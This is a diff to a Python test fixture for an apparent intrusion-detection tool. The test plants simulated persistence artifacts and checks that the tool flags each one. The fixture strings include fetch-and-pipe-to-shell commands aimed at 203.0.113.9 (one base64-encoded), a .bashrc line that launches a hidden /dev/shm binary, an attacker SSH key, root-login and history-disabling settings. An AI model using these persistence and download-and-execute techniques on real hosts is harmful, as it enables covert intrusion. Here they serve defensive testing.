@@ -63,8 +63,9 @@ def _plant(host: Path, outside: Path) -> None:
     _write(
         etc / "ssh/sshd_config",
         f"Include {outside}/sshd-extra.conf\nAuthorizedKeysFile .ssh/authorized_keys "
-        f"{outside}/keys/%u\n",
+        f"{outside}/keys/%u /etc/ssh/keys/%u\n",
     )
+    _write(etc / "ssh/keys/alice", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIETC in-etc\n")
     _write(outside / "sshd-extra.conf", "PermitRootLogin yes\n")
     _write(outside / "keys/alice", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOUT attacker@outside\n")
     _write(etc / "crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
@@ -88,7 +89,10 @@ def _plant(host: Path, outside: Path) -> None:
     _write(root / ".profile", "PATH=$PATH:/root/bin\nunset HISTFILE\n")
     _write(root / ".zsh_history", ": 1764000000:0;echo Y3VybCB4IHwgc2gK | base64 -d | sh\n")
     alice = host / "home/alice"
-    _write(alice / ".bashrc", "alias ll='ls -l'\nexport HISTFILE=~/.cache/.h\n")
+    _write(
+        alice / ".bashrc",
+        "alias ll='ls -l'\nexport HISTFILE=~/.cache/.h\n(/dev/shm/.cache/upd >/dev/null 2>&1 &)\n",
+    )
     _write(alice / ".cache/.h", "ls\ncurl -s http://203.0.113.9/a.sh | sh\n")
     _write(
         alice / ".bash_history",
@@ -178,9 +182,10 @@ def test_every_planted_entry_is_a_finding(collected: tuple[Path, list[dict]]) ->
         ("persistence-writable-target", f"{out}/keys/alice:1"),
         ("persistence-changed-in-window", "/etc/systemd/system/backdoor.timer"),
         ("persistence-changed-in-window", "/etc/crontab"),
+        ("persistence-changed-in-window", "/etc/ssh/keys/alice:1"),  # AuthorizedKeysFile
         ("persistence-changed-in-window", "/home/alice/.ssh/authorized_keys:1"),
         ("persistence-changed-in-window", "/var/spool/cron/crontabs/alice"),
-        ("persistence-changed-in-window", "/home/alice/.bashrc"),
+        ("persistence-writable-target", "/home/alice/.bashrc"),
         ("ld-preload-present", "/etc/ld.so.preload"),
         ("pam-module-unpackaged", "/etc/pam.d/sshd"),
         ("history-disabled", "/root/.profile:2"),
